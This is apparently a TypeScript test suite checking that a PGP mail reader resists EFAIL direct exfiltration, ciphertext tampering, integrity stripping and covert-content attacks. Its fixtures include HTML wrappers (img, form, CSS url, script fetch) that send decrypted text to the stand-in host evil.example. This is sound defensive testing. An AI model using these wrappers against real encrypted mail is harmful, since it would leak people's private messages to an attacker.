import assert from "node:assert/strict";
import { test } from "node:test";
import {
  armor,
  config,
  createMessage,
  encryptSessionKey,
  enums,
  generateSessionKey,
  readKey,
  SymmetricallyEncryptedDataPacket,
} from "openpgp";
import { dearmor } from "#src/openpgp/dearmor.ts";
import { readPacketHeads } from "#src/openpgp/read-packets.ts";
import { hideRecipient } from "../fixtures/mails/corpus-tools.ts";
import {
  desk,
  encrypted,
  htmlPart,
  mail,
  multipart,
  opened,
  pgpMime,
  refused,
  textPart,
} from "./crypto-mails.ts";

const secret = "CANARY-the-secret-text";

// Direct exfiltration (EFAIL, 2018): the text of one part must never become part of another.
const around: [string, (ciphertext: string) => string][] = [
  [
    "an open image tag before and after",
    (ciphertext) =>
      multipart("multipart/mixed", "w", [
        htmlPart('<img src="http://evil.example/'),
        ciphertext,
        htmlPart('">'),
      ]),
  ],
  [
    "an open form",
    (ciphertext) =>
      multipart("multipart/mixed", "w", [
        htmlPart('<form action="http://evil.example/"><textarea name=t>'),
        ciphertext,
        htmlPart("</textarea><input type=submit>"),
      ]),
  ],
  [
    "an open style in related parts",
    (ciphertext) =>
      multipart("multipart/related", "w", [
        htmlPart("<style>*{background:url(http://evil.example/"),
        ciphertext,
      ]),
  ],
  [
    "an alternative",
    (ciphertext) =>
      multipart("multipart/alternative", "w", [htmlPart('<img src="http://evil.example/'), ciphertext]),
  ],
];

for (const [what, wrap] of around) {
  test(`a ciphertext with ${what} is a document of its own`, async () => {
    for (const text of [secret, htmlPart(`${secret}`)]) {
      const result = await opened(mail(wrap(await pgpMime(text))));

      const holding = result.segments.filter((segment) => segment.text.includes("CANARY"));
      assert.deepEqual(holding, [{ sort: "encrypted", text: secret }]);
      assert.ok(result.segments.every((segment) => segment === holding[0] || segment.sort === "plain"));
    }
  });
}

test("an inline ciphertext inside an HTML attribute is not opened into it", async () => {
  const raw = mail(htmlPart(`Hello<img src="http://evil.example/?\r\n${await encrypted(secret)}\r\n">`));

  const result = await opened(raw);

  assert.doesNotMatch(JSON.stringify(result), /CANARY/);
});

test("encrypted HTML becomes text: no picture, no script, no style, no file of it; a frame is named", async () => {
  const html = `<style>p{background:url(http://evil.example/a)}</style><p>${secret}</p><img src="http://evil.example/b"><script>fetch("http://evil.example/c")</script><iframe src="http://evil.example/d"></iframe>`;

  const result = await opened(mail(await pgpMime(htmlPart(html))));

  assert.equal(result.text, `${secret}\n\n[frame: http://evil.example/d]`);
  assert.doesNotMatch(JSON.stringify(result), /evil\.example\/[abc]|<p>/);
  assert.deepEqual(result.attachments, []);
});

// Gadgets and integrity: whatever is changed in a ciphertext, nothing of it is shown.
test("a ciphertext with a changed block is refused, wherever it was changed", async () => {
  const bytes = binary(await encrypted(secret.repeat(50)));
  const body = readPacketHeads(bytes, 2)?.[1]?.body ?? assert.fail();
  for (let at = body + 1; at < bytes.length; at += 97) {
    await refused(
      asMail(bytes.with(at, (bytes[at] ?? 0) ^ 0x20)),
      /not opened: the encrypted part is damaged/,
    );
  }
});

test("a ciphertext whose integrity was stripped is refused", async () => {
  const bytes = binary(await encrypted(secret));
  const at = readPacketHeads(bytes, 2)?.[1]?.start ?? assert.fail();

  await refused(asMail(bytes.with(at, 0xc0 | 9)), /its integrity is not protected/);
});

test("a ciphertext whose integrity was cut off is refused", async () => {
  const bytes = binary(await encrypted(secret));
  const [, head] = readPacketHeads(bytes, 2) ?? [];
  assert.ok(head);
  for (const missing of [1, 20, 22]) {
    const rest = bytes.subarray(head.body, bytes.length - missing);
    const length = Buffer.alloc(5, 0xff);
    length.writeUInt32BE(rest.length, 1);
    await refused(
      asMail(Buffer.concat([bytes.subarray(0, head.start), Buffer.of(0xc0 | 18), length, rest])),
      /damaged/,
    );
  }
});

test("a ciphertext that never had integrity protection is refused", async () => {
  const encryptionKeys = await readKey({ armoredKey: desk.public });
  const sessionKey = await generateSessionKey({ encryptionKeys });
  const packet = new SymmetricallyEncryptedDataPacket();
  Object.assign(packet, { packets: (await createMessage({ text: secret })).packets });
  // The library needs its configuration here, which its own types leave out.
  await Reflect.apply(Reflect.get(packet, "encrypt"), packet, [
    enums.symmetric.aes256,
    sessionKey.data,
    config,
  ]);
  const written: Uint8Array = Reflect.apply(Reflect.get(packet, "write"), packet, []);
  const keyPacket = await encryptSessionKey({
    ...sessionKey,
    algorithm: "aes256",
    encryptionKeys,
    format: "binary",
  });
  const length = Buffer.alloc(5, 0xff);
  length.writeUInt32BE(written.length, 1);
  const bytes = Buffer.concat([keyPacket, Buffer.of(0xc0 | 9), length, written]);

  await refused(asMail(bytes), /its integrity is not protected/);
});

test("everything that fails to decrypt says nothing but one reason of five", async () => {
  const bytes = binary(await encrypted(secret));
  for (const raw of [
    asMail(bytes.subarray(0, 100)),
    asMail(bytes.with(20, 0)),
    mail(textPart("-----BEGIN PGP MESSAGE-----\r\n\r\nx")),
  ]) {
    await refused(raw, /^The mail is encrypted and was not opened: [a-z ,]+$/);
  }
});

// Covert content (2019): a stolen ciphertext, hidden in a harmless mail, to be answered with its text.
const covert: [string, (ciphertext: string) => string][] = [
  ["far below harmless words", (block) => textPart(`How do I install Tails?${"\r\n".repeat(300)}${block}`)],
  ["above harmless words", (block) => textPart(`${block}\r\n\r\nHow do I install Tails?`)],
  [
    "in a part that a page hides",
    (block) =>
      multipart("multipart/mixed", "w", [htmlPart("How do I install Tails?<div hidden>"), textPart(block)]),
  ],
];

for (const [what, hide] of covert) {
  test(`a ciphertext ${what} is flagged and shown apart`, async () => {
    const result = await opened(mail(hide(await encrypted(secret))));

    assert.equal(result.crypto.encryption, "partly");
    assert.deepEqual(result.marks, ["partly encrypted", "copied ciphertext"]);
    assert.deepEqual(result.segments.map(({ sort }) => sort).toSorted(), ["encrypted", "plain"]);
    assert.equal(result.cleartext, secret);
  });
}

test("PGP/MIME beside harmless words is flagged", async () => {
  const harmless = textPart("How do I install Tails?");

  const result = await opened(mail(multipart("multipart/mixed", "w", [harmless, await pgpMime(secret)])));

  assert.equal(result.crypto.encryption, "partly");
  assert.deepEqual(result.marks, ["partly encrypted", "copied ciphertext"]);
  assert.deepEqual(result.crypto.errant, ["encrypted part"]);
});

test("a ciphertext is known again, however it is packed", async () => {
  const armored = await encrypted(secret);
  const again = armor(enums.armor.message, binary(armored)).replace("\n\n", "\nComment: new\n\n");
  const hashes = [];
  for (const block of [armored, again, Buffer.from(hideRecipient(Buffer.from(armored))).toString()]) {
    hashes.push((await opened(mail(textPart(block)))).sessionHashes);
  }
  const other = (await opened(mail(textPart(await encrypted(secret))))).sessionHashes;

  assert.equal(hashes[0]?.length, 1);
  assert.deepEqual(hashes[1], hashes[0]);
  assert.deepEqual(hashes[2], hashes[0]);
  assert.notDeepEqual(other, hashes[0]);
});

test("no more than eight ciphertexts of one mail are tried", async () => {
  const block = await encrypted(secret);

  const result = await opened(mail(textPart(`${block}\r\n\r\n`.repeat(20))));

  assert.equal(result.segments.filter(({ sort }) => sort === "encrypted").length, 8);
  assert.ok(result.warnings.includes("a part is encrypted and was not opened"));
});

function binary(armored: string): Uint8Array {
  return dearmor(armored, "MESSAGE") ?? assert.fail("no armour");
}

function asMail(bytes: Uint8Array): string {
  return mail(textPart(armor(enums.armor.message, bytes)));
}
